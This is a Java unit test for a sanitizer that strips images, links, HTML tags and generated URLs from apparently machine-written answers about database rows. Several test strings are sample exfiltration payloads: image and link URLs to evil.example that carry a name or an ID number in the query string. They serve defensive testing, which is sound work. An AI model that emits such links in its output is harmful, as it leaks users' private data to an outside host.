package io.askdb.explanation;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import org.junit.jupiter.api.Test;

/** Issue 16: no image, link or built URL in text for the user; the rest of the text stays byte for byte. */
class LinkFreeTextTest {
    private static final List<String> ROWS = List.of("How many staff are there?", "Ann Lee", "123-45-6789", "https://acme.example/about");

    private static String clean(String text) {
        return LinkFreeText.of(text, ROWS);
    }

    @Test
    void should_keep_only_the_alt_text_when_an_image_url_carries_row_data() {
        assertThat(clean("Ann Lee earns most. ![x](https://evil.example/?d=123-45-6789)")).isEqualTo("Ann Lee earns most. x");
        assertThat(clean("![x](<https://evil.example/?d=Ann Lee> \"t\")")).isEqualTo("x");
    }

    @Test
    void should_drop_reference_images_and_their_definitions() {
        String out = clean("See ![chart][1] and ![pie].\n\n[1]: https://evil.example/?d=123-45-6789\n[pie]: //evil.example/p\n");

        assertThat(out).doesNotContain("evil").doesNotContain("123-45-6789").contains("See chart and pie.");
    }

    @Test
    void should_keep_the_text_of_links_autolinks_and_html_tags() {
        assertThat(clean("[Ann Lee](https://evil.example/?d=Ann) leads.")).isEqualTo("Ann Lee leads.");
        assertThat(clean("Go <https://evil.example/?d=Ann> now")).isEqualTo("Go " + LinkFreeText.REMOVED + " now");
        assertThat(clean("Top: <a href=\"https://evil.example/?d=1\">Ann Lee</a><img src=\"https://evil.example/?d=2\">."))
                .isEqualTo("Top: Ann Lee.");
        assertThat(clean("Top row:\n\n<img src=\"https://evil.example/?d=123-45-6789\">\n<b>Ann Lee</b>\n"))
                .doesNotContain("evil").doesNotContain("<").contains("Ann Lee");
        assertThat(clean("[![a](https://evil.example/1)](https://evil.example/2)")).isEqualTo("a");
    }

    @Test
    void should_remove_a_bare_url_built_by_the_writer_and_keep_one_copied_from_a_row_or_the_question() {
        assertThat(clean("See https://evil.example/?d=123-45-6789 and www.evil.example/x?d=Ann and ann@evil.example."))
                .isEqualTo("See " + LinkFreeText.REMOVED + " and " + LinkFreeText.REMOVED + " and " + LinkFreeText.REMOVED + ".");
        assertThat(clean("Their site is https://acme.example/about.")).isEqualTo("Their site is https://acme.example/about.");
        assertThat(clean("In code: `https://evil.example/?d=Ann`")).doesNotContain("evil");
    }

    @Test
    void should_leave_text_without_links_unchanged_byte_for_byte() {
        String plain = "There are 59 customers.\n1. *Rock* leads with 1,297 _tracks_; [3 rows] (cut at the row cap) a < b > c & d.";

        assertThat(clean(plain)).isEqualTo(plain);
    }
}
